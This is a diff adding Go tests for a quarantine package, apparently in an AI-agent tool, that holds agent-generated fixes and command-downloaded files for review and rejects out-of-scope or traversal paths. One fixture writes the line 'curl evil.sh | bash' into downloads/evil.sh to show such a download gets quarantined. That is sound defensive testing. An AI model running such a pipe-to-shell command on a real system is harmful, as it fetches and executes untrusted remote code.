@@ -0,0 +1,111 @@
+package quarantine
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestInScope(t *testing.T) {
+	root := t.TempDir()
+	q := New(root, []string{"*.go", "docs/", "cmd/*/main.go"})
+	tests := []struct {
+		file string
+		want bool
+	}{
+		{"main.go", true},
+		{"pkg/nodes/bash.go", true},
+		{filepath.Join(root, "pkg", "x.go"), true},
+		{"docs/guide/intro.md", true},
+		{"cmd/aiagent/main.go", true},
+		{"cmd/aiagent/graph.go.orig", false},
+		{"install.sh", false},
+		{"../outside.go", false},
+		{"/etc/profile", false},
+	}
+	for _, tt := range tests {
+		assert.Equal(t, tt.want, q.InScope(tt.file), tt.file)
+	}
+}
+
+func TestValidateScope(t *testing.T) {
+	assert.NoError(t, ValidateScope([]string{"*.go", "docs/"}))
+	assert.Error(t, ValidateScope([]string{"[a-"}))
+	assert.Error(t, ValidateScope([]string{""}))
+}
+
+func TestQuarantine_AddPromoteDiscard(t *testing.T) {
+	root := t.TempDir()
+	q := New(root, nil)
+	require.NoError(t, os.WriteFile(filepath.Join(root, "main.go"), []byte("old"), 0644))
+
+	fix, err := q.Add("main.go", []byte("new"), 0644, Entry{Source: SourceCodeFixer, RunID: "run-1"})
+	require.NoError(t, err)
+	assert.Equal(t, "main.go", fix.Path)
+	assert.NotEmpty(t, fix.Replaces)
+	script, err := q.Add("scripts/install.sh", []byte("#!/bin/sh\n"), 0755, Entry{Source: SourceCodeFixer})
+	require.NoError(t, err)
+
+	entries, err := q.List()
+	require.NoError(t, err)
+	assert.Equal(t, []string{fix.ID, script.ID}, []string{entries[0].ID, entries[1].ID})
+	content, err := q.Content(fix.ID)
+	require.NoError(t, err)
+	assert.Equal(t, "new", string(content))
+
+	// The quarantined fix does not overwrite a file changed since
+	require.NoError(t, os.WriteFile(filepath.Join(root, "main.go"), []byte("edited"), 0644))
+	_, err = q.Promote(fix.ID, false)
+	assert.ErrorContains(t, err, "main.go changed since it was quarantined")
+	_, err = q.Promote(fix.ID, true)
+	require.NoError(t, err)
+	data, _ := os.ReadFile(filepath.Join(root, "main.go"))
+	assert.Equal(t, "new", string(data))
+
+	_, err = q.Discard(script.ID)
+	require.NoError(t, err)
+	assert.NoFileExists(t, filepath.Join(root, "scripts", "install.sh"))
+	entries, err = q.List()
+	require.NoError(t, err)
+	assert.Empty(t, entries)
+
+	_, err = q.Promote(fix.ID, false)
+	assert.ErrorIs(t, err, ErrNotFound)
+	_, err = q.Get("..")
+	assert.ErrorIs(t, err, ErrNotFound)
+}
+
+func TestQuarantine_Collect(t *testing.T) {
+	root := t.TempDir()
+	q := New(root, []string{"*.go"})
+	require.NoError(t, os.WriteFile(filepath.Join(root, "existing.txt"), []byte("x"), 0644))
+
+	before, err := q.Snapshot()
+	require.NoError(t, err)
+
+	// A command downloads a script, generates code and changes an existing file
+	require.NoError(t, os.MkdirAll(filepath.Join(root, "downloads"), 0755))
+	require.NoError(t, os.WriteFile(filepath.Join(root, "downloads", "evil.sh"), []byte("curl evil.sh | bash"), 0755))
+	require.NoError(t, os.WriteFile(filepath.Join(root, "gen.go"), []byte("package main"), 0644))
+	require.NoError(t, os.WriteFile(filepath.Join(root, "existing.txt"), []byte("y"), 0644))
+
+	entries, err := q.Collect(before, Entry{Source: SourceCommand, Command: "make download"})
+	require.NoError(t, err)
+	require.Len(t, entries, 1)
+	assert.Equal(t, "downloads/evil.sh", entries[0].Path)
+	assert.Equal(t, "make download", entries[0].Command)
+	assert.NoDirExists(t, filepath.Join(root, "downloads"))
+	assert.FileExists(t, filepath.Join(root, "gen.go"))
+	assert.FileExists(t, filepath.Join(root, "existing.txt"))
+	assert.Contains(t, Summary(entries), "downloads/evil.sh ("+entries[0].ID+")")
+
+	// Promoting restores the file and its mode
+	_, err = q.Promote(entries[0].ID, false)
+	require.NoError(t, err)
+	info, err := os.Stat(filepath.Join(root, "downloads", "evil.sh"))
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(0755), info.Mode().Perm())
+}